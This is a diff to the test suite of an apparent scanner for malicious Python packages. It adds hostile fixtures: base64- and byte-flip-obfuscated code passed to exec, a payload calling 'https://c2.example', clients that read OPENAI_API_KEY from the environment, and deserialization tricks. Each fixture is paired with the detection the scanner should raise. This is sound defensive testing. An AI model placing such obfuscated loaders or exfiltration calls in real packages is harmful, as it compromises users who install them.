@@ -24,6 +24,8 @@ const encoded = (code: string) => new TextEncoder().encode(code).toBase64();
 const PAYLOAD = encoded("import os, urllib.request\nurllib.request.urlopen('https://c2.example')");
 const ZIPPED = new Uint8Array(gzipSync("print(1)")).toBase64();
 
+const FLIPPED = new TextEncoder().encode("import a.b.c;run()").map((each) => 255 - each).toBase64();
+
 /** A function that looks up in decoded data which class is meant, and what it does with the class. */
 const RESTORED = (use: string, before = ""): string =>
   "import base64, json\n\ndef restore(raw):\n" + before +
@@ -112,6 +114,14 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
       "def configured():\n    config = Config()\n" +
       "    config.key = os.getenv('OPENAI_API_KEY')\n    return config\n",
   }, SENT_BY_SECOND],
+  ...Object.fromEntries(
+    ["cls", "type(self)", "self.__init__", "globals()['Second']", "getattr(kit, 'Second')"].map(
+      (way) => [`a client is made by ${way} with what another filled`, [
+        TWO_CLIENTS(`\n    def again(self, cls=None):\n        ${way}(First().config).get()\n`),
+        SENT_BY_SECOND,
+      ]],
+    ),
+  ),
   "a client inherits what its base is filled with": [{
     ...TWO_CLIENTS(""),
     "kit/config.py": "import os\n\nclass Config:\n    def __init__(self, own):\n" +
@@ -134,6 +144,10 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
     "kit/__init__.py": "import base64\ncode = base64.b64decode('{cHJpbnQoMSk}').decode()\n" +
       "short = base64.b64decode('{cHJpbnQo}').decode()\nexec(short)\n",
   }, "py/encoded-code kit/__init__.py:4"],
+  "decoded bytes that are no text are run once they are changed": [{
+    "kit/__init__.py": `import base64\nblob = base64.b64decode("${FLIPPED}")` +
+      `\nexec(bytes(255 - each for each in blob))\n`,
+  }, "py/encoded-code kit/__init__.py:3"],
   "long decoded text between braces is run": [{
     "kit/__init__.py": `import base64\nexec(base64.b64decode("{${PAYLOAD}}"))\n`,
   }, "py/encoded-code kit/__init__.py:2"],
@@ -158,6 +172,13 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
   "decoded data names what is called beside a method that restores objects": [{
     "kit/__init__.py": RESTORED("    if 'args' in data: kind(data['args'])\n") +
       "    return kind.from_json(text)\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what is a function by another name": [{
+    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n") +
+      "\nclass Kit:\n    from_json = exec\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names a class whose objects hold code": [{
+    "kit/__init__.py": RESTORED("    return kind.deserialize(text)\n"),
   }, "py/encoded-code kit/__init__.py:7"],
   "decoded data names what another function calls": [{
     "kit/__init__.py": RESTORED("    return call(kind)\n") + "\ndef call(f):\n    f('id')\n",
